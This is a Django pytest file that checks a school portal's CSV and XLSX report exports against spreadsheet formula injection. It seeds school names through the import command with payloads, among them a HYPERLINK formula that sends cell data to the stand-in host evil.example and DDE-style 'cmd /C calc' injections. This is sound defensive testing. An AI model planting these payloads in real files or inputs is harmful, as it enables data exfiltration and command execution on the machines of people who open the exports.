"""Exports never let a name run as a formula (issue 15): the attack's payloads, through import_schools,
out of every report export."""
import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from portal.models import Role, School

from ..factories import LopFactory, UserFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER = ("schoolnummer;net;naam;straat;huisnummer;postcode;gemeente;niscode;provinciecode;provincie;"
          "onderwijsniveau;instellingstype;scholengemeenschap;taalstelsel;ingerichte hoofdstructuren")


@pytest.fixture
def poisoned(tmp_path):
    """An LOP and its schools whose names are the payloads, the schools brought in by import_schools."""
    lop = LopFactory(name='=HYPERLINK("http://evil.example/?lop="&A1)')
    rows = [f'{1000 + n};Gemeenschapsonderwijs;"{name.replace(chr(34), chr(34) * 2)}";Teststraat;1;9000;Gent;'
            f"44021;4;Oost-Vlaanderen;BaO;Basisschool;;NL;111" for n, name in enumerate(PAYLOADS)]
    path = tmp_path / "schools.csv"
    path.write_bytes(("\r\n".join([HEADER, *rows]) + "\r\n").encode("utf-8"))
    call_command("import_schools", str(path), "--lop-id", str(lop.pk), stdout=io.StringIO())
    # The names are kept as the list has them (the reader trims spaces and tabs around every cell); only
    # the exports must not let them run.
    assert sorted(School.objects.values_list("name", flat=True)) == sorted(name.strip() for name in PAYLOADS)
    school = School.objects.get(name=PAYLOADS[0])
    coordinator = UserFactory(email="ict@evil.test")
    Role.objects.create(user=coordinator, kind=Role.Kind.COORDINATOR, school=school)
    lop_staff = UserFactory(email="lop@evil.test")
    Role.objects.create(user=lop_staff, kind=Role.Kind.LOP_STAFF, lop=lop)
    admin = UserFactory(email="admin@evil.test", is_staff=True, is_superuser=True)
    return {"school": (coordinator, "/reports/school/"), "lop": (lop_staff, f"/lop/{lop.pk}/"),
            "flanders": (admin, "/reports/flanders/")}


def live_csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def live_xlsx_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


@pytest.mark.parametrize("report", ["school", "lop", "flanders"])
def test_no_export_holds_a_live_formula(poisoned, report, client):
    user, url = poisoned[report]
    client.force_login(user)
    as_csv = client.get(url + "?format=csv")
    assert as_csv.status_code == 200
    text = as_csv.content.decode("utf-8-sig")
    assert live_csv_cells(as_csv.content) == []
    # The name is still there to read, behind the quote that tells a spreadsheet "this is text".
    assert "'=HYPERLINK(" in text

    as_xlsx = client.get(url + "?format=xlsx")
    assert as_xlsx.status_code == 200
    assert live_xlsx_cells(as_xlsx.content) == []
    values = [cell.value for sheet in load_workbook(io.BytesIO(as_xlsx.content)).worksheets
              for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(value.startswith("=HYPERLINK(") for value in values)  # shown as written, typed as text


def test_the_payloads_would_be_live_without_the_guard():
    """The check above can fail: a plain openpyxl write of a payload is a formula, a CSV cell starts bare."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append([PAYLOADS[0]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert live_xlsx_cells(buffer.getvalue()) == ["A1"]
    assert live_csv_cells(("\ufeff" + PAYLOADS[1]).encode("utf-8")) == [PAYLOADS[1]]
